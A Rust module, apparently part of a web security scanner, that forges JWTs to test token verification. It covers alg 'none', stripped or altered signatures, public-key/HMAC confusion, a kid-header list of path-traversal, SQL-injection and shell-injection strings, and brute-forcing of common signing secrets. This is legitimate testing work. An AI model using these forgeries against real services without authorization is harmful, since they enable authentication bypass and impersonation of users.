//! Forged JWTs: what libraries that trust the header once accepted.

use aws_lc_rs::hmac;
use data_encoding::BASE64URL_NOPAD;
use http::Method;
use serde_json::{Value, json};

use super::Attacks;
use crate::check::Check;
use crate::client::{Ask, Device};
use crate::credential::{Credential, CredentialKind, Jwt};
use crate::detect::{Seen, alone, alone_value, seen_apart};
use crate::scene::{Broken, Scene};
use crate::verdict::{Evidence, Severity, Verdict};

const NONE: Check = Check::new(
    "jwt-alg-none",
    "a token without a signature is refused",
    "RFC 8725 §3.1; ASVS 9.1.2; A01",
    "Let the verifier name the one algorithm that it accepts; never read it from the token.",
)
.severity(Severity::Critical);

const EDITED: Check = Check::new(
    "jwt-signature",
    "a token whose claims were edited is refused",
    "RFC 7515 §5.2; ASVS 9.1.1; A06",
    "Verify the signature over the bytes that came, before anything in the token is believed.",
)
.severity(Severity::Critical);

const CONFUSION: Check = Check::new(
    "jwt-key-confusion",
    "a token signed by the public key as if it were a password is refused",
    "RFC 8725 §2.1, §3.1; CVE-2015-9235; A02",
    "Bind each key to exactly one algorithm.",
)
.severity(Severity::Critical);

const KID: Check = Check::new(
    "jwt-kid",
    "a token cannot choose its own key",
    "RFC 8725 §3.10; ASVS 9.1.3; CVE-2018-0114; A03, A05",
    "Look kid up in a fixed map; ignore jwk, jku and x5u; let no part of the header reach a path, a query or a fetch.",
)
.severity(Severity::Critical);

const WEAK: Check = Check::new(
    "jwt-weak-secret",
    "the signing secret is in no list of common ones",
    "RFC 8725 §3.5; A17",
    "Use 32 random bytes as the secret, or better a key pair; end all sessions after changing it.",
)
.severity(Severity::Critical);

pub(super) const ATTACKS: Attacks = &[
    (NONE, |scene| Box::pin(attack(scene, &NONE, none))),
    (EDITED, |scene| Box::pin(attack(scene, &EDITED, edited))),
    (CONFUSION, |scene| Box::pin(confusion(scene))),
    (KID, |scene| Box::pin(attack(scene, &KID, kid))),
    (WEAK, |scene| Box::pin(weak(scene))),
];

/// A forgery: what it is, and the token.
type Forgery = (String, String);

/// The victim's token in this session, if it is a JWT.
async fn genuine(scene: &Scene) -> Result<Option<(Credential, Jwt)>, Broken> {
    let session = scene.session(0).await?;
    let tokens = session.of_kind(CredentialKind::Access).into_iter();
    Ok(tokens.filter_map(|token| token.jwt().map(|jwt| (token, jwt))).next())
}

async fn attack(
    scene: &Scene,
    check: &Check,
    forge: fn(&Jwt, &str) -> Vec<Forgery>,
) -> Result<Verdict, Broken> {
    let Some((token, jwt)) = genuine(scene).await? else {
        return Ok(Verdict::not_applicable("the access token is no JWT"));
    };
    let forgeries = forge(&jwt, token.secret.expose());
    present(scene, check, &token, forgeries).await
}

/// Presents each forgery where the genuine token goes.
async fn present(
    scene: &Scene,
    check: &Check,
    token: &Credential,
    forgeries: Vec<Forgery>,
) -> Result<Verdict, Broken> {
    let thief = scene.agent(Device::Other);
    let who = &scene.app()?.who;
    let (works, control) = seen_apart(scene, &thief, alone(who.method(), who.url.clone(), token)).await?;
    if !works.is_somebody() {
        return Ok(Verdict::inconclusive(format!(
            "the genuine token does not work either: {}",
            control.line()
        )));
    }
    let (mut through, mut steps) = (Vec::new(), Vec::new());
    let tried = forgeries.len();
    for (name, forged) in forgeries {
        scene.vault.keep(&crate::Secret::new(forged.clone()));
        let ask = alone_value(who.method(), who.url.clone(), &token.carrier, &forged);
        let (seen, answer) = seen_apart(scene, &thief, ask).await?;
        if let Seen::Account(_) = seen {
            steps.push(format!("{name}: {}", answer.line()));
            through.push(name);
        }
    }
    if through.is_empty() {
        return Ok(Verdict::pass(format!("all {tried} forgeries were refused")));
    }
    let evidence = Evidence::new(format!("accepted: {}", through.join(", "))).steps(steps);
    Ok(check.finding(evidence))
}

fn part(value: &Value) -> String {
    BASE64URL_NOPAD.encode(value.to_string().as_bytes())
}

fn with(header: &Value, changes: &Value) -> Value {
    let mut header = header.clone();
    if let (Some(header), Some(changes)) = (header.as_object_mut(), changes.as_object()) {
        for (name, value) in changes {
            header.insert(name.clone(), value.clone());
        }
    }
    header
}

fn hs256(header: &Value, claims: &Value, key: &[u8]) -> String {
    let signed = format!("{}.{}", part(header), part(claims));
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), signed.as_bytes());
    format!("{signed}.{}", BASE64URL_NOPAD.encode(tag.as_ref()))
}

fn none(jwt: &Jwt, token: &str) -> Vec<Forgery> {
    let signature = token.rsplit('.').next().unwrap_or_default();
    let mut forged = Vec::new();
    for alg in ["none", "None", "NONE", "nOnE", ""] {
        let header = with(&jwt.header, &json!({ "alg": alg }));
        forged.push((
            format!("alg {alg:?}, no signature"),
            format!("{}.{}.", part(&header), part(&jwt.claims)),
        ));
        forged.push((
            format!("alg {alg:?}, old signature"),
            format!("{}.{}.{signature}", part(&header), part(&jwt.claims)),
        ));
    }
    let mut header = jwt.header.clone();
    if let Some(header) = header.as_object_mut() {
        header.remove("alg");
    }
    forged.push(("no alg".into(), format!("{}.{}.", part(&header), part(&jwt.claims))));
    forged
}

fn edited(jwt: &Jwt, token: &str) -> Vec<Forgery> {
    let mut parts = token.split('.');
    let (header, payload, signature) = (
        parts.next().unwrap_or_default(),
        parts.next().unwrap_or_default(),
        parts.next().unwrap_or_default(),
    );
    // The claims say the same to whoever reads them; only the bytes differ, and a member is new.
    let claims = with(&jwt.claims, &json!({ "drill": true, "exp": 4_102_444_800_i64 }));
    let mut broken = BASE64URL_NOPAD.decode(signature.as_bytes()).unwrap_or_default();
    if let Some(first) = broken.first_mut() {
        *first ^= 1;
    }
    vec![
        ("edited claims, old signature".into(), format!("{header}.{}.{signature}", part(&claims))),
        ("signature stripped".into(), format!("{header}.{payload}.")),
        (
            "one bit of the signature flipped".into(),
            format!("{header}.{payload}.{}", BASE64URL_NOPAD.encode(&broken)),
        ),
        ("signature of zeroes".into(), format!("{header}.{payload}.{}", BASE64URL_NOPAD.encode(&[0; 64]))),
    ]
}

fn kid(jwt: &Jwt, _token: &str) -> Vec<Forgery> {
    let claims = &jwt.claims;
    let mut forged = Vec::new();
    for (kid, key) in [
        ("/dev/null", &b""[..]),
        ("../../../../../../dev/null", b""),
        ("' UNION SELECT 'drill' -- ", b"drill"),
        ("x' OR '1'='1", b""),
        ("|| echo drill", b"drill"),
    ] {
        let header = with(&jwt.header, &json!({ "alg": "HS256", "kid": kid }));
        // An empty HMAC key is what reading /dev/null gives.
        forged.push((format!("kid {kid:?}"), hs256(&header, claims, key)));
    }
    let own = b"a key that the token brings along";
    let jwk = json!({ "kty": "oct", "k": BASE64URL_NOPAD.encode(own), "kid": "drill", "alg": "HS256" });
    let header = with(&jwt.header, &json!({ "alg": "HS256", "kid": "drill", "jwk": jwk }));
    forged.push(("a key in the header (jwk)".into(), hs256(&header, claims, own)));
    forged
}

/// Public keys as bytes that a careless verifier would take for a secret.
async fn confusion(scene: &Scene) -> Result<Verdict, Broken> {
    let Some((token, jwt)) = genuine(scene).await? else {
        return Ok(Verdict::not_applicable("the access token is no JWT"));
    };
    if jwt.alg().starts_with("HS") {
        return Ok(Verdict::not_applicable(format!(
            "the token is signed with a shared secret ({}), so there is no public key",
            jwt.alg()
        )));
    }
    let agent = scene.agent(Device::Other);
    let mut secrets: Vec<(String, Vec<u8>)> = Vec::new();
    for path in ["/.well-known/jwks.json", "/jwks.json", "/api/auth/jwks", "/oauth/jwks", "/auth/jwks.json"] {
        let Some(url) = scene.target.join(path) else { continue };
        let answer = agent.send_apart(Ask::new(Method::GET, url)).await?;
        let Some(set) = answer.json().filter(|_| answer.is_success()) else { continue };
        secrets.push((format!("{path} as it is served"), answer.body.to_vec()));
        for key in set.get("keys").and_then(Value::as_array).into_iter().flatten() {
            secrets.push((format!("a key of {path} as JSON"), key.to_string().into_bytes()));
            for member in ["x", "n"] {
                if let Some(raw) = key.get(member).and_then(Value::as_str) {
                    secrets.push((format!("member {member} as text"), raw.as_bytes().to_vec()));
                    let bytes = BASE64URL_NOPAD.decode(raw.as_bytes()).unwrap_or_default();
                    if member == "x" && key.get("crv").is_some_and(|crv| crv == "Ed25519") {
                        secrets.extend(ed25519_forms(&bytes));
                    }
                    secrets.push((format!("member {member} as bytes"), bytes));
                }
            }
        }
        break;
    }
    if secrets.is_empty() {
        return Ok(Verdict::not_applicable("no public key is served where they usually lie"));
    }
    let header = with(&jwt.header, &json!({ "alg": "HS256" }));
    let forged = secrets.into_iter().map(|(name, key)| (name, hs256(&header, &jwt.claims, &key))).collect();
    present(scene, &CONFUSION, &token, forged).await
}

/// SubjectPublicKeyInfo in DER and PEM (RFC 8410 §4).
fn ed25519_forms(key: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut der = vec![0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00];
    der.extend_from_slice(key);
    let body = data_encoding::BASE64.encode(&der);
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----");
    vec![
        ("the public key as DER".into(), der),
        ("as PEM".into(), pem.clone().into_bytes()),
        ("as PEM with a newline".into(), format!("{pem}\n").into_bytes()),
    ]
}

/// Secrets of tutorials and templates.
const COMMON: [&str; 40] = [
    "secret",
    "Secret",
    "SECRET",
    "your-256-bit-secret",
    "your_jwt_secret",
    "your-secret-key",
    "your_secret_key",
    "jwt_secret",
    "jwtsecret",
    "JWT_SECRET",
    "jwt-secret",
    "jwt",
    "token",
    "password",
    "changeme",
    "change-me",
    "changeit",
    "mysecret",
    "my-secret",
    "mysecretkey",
    "my_secret_key",
    "supersecret",
    "super-secret",
    "supersecretkey",
    "super_secret_key",
    "topsecret",
    "shhhhh",
    "shhhhhhared-secret",
    "keyboard cat",
    "development",
    "dev",
    "test",
    "testing",
    "default",
    "example",
    "private",
    "key",
    "admin",
    "123456",
    "a-string-secret-at-least-256-bits-long",
];

/// Tried on this machine: the server sees nothing of it but the proof.
async fn weak(scene: &Scene) -> Result<Verdict, Broken> {
    let Some((token, jwt)) = genuine(scene).await? else {
        return Ok(Verdict::not_applicable("the access token is no JWT"));
    };
    let algorithm = match jwt.alg() {
        "HS256" => hmac::HMAC_SHA256,
        "HS384" => hmac::HMAC_SHA384,
        "HS512" => hmac::HMAC_SHA512,
        other => {
            return Ok(Verdict::not_applicable(format!("the token is signed with a key pair ({other})")));
        }
    };
    let (signed, signature) = token.secret.expose().rsplit_once('.').unwrap_or_default();
    let tag = BASE64URL_NOPAD.decode(signature.as_bytes()).unwrap_or_default();
    let found = COMMON.iter().find(|secret| {
        hmac::verify(&hmac::Key::new(algorithm, secret.as_bytes()), signed.as_bytes(), &tag).is_ok()
    });
    Ok(match found {
        // The secret itself would let every reader of the report sign.
        Some(_) => WEAK.finding(Evidence::new(
            "the signing secret is one of forty common ones, so anybody can sign tokens for any user",
        )),
        None => Verdict::pass(format!("none of {} common secrets signed it", COMMON.len())),
    })
}
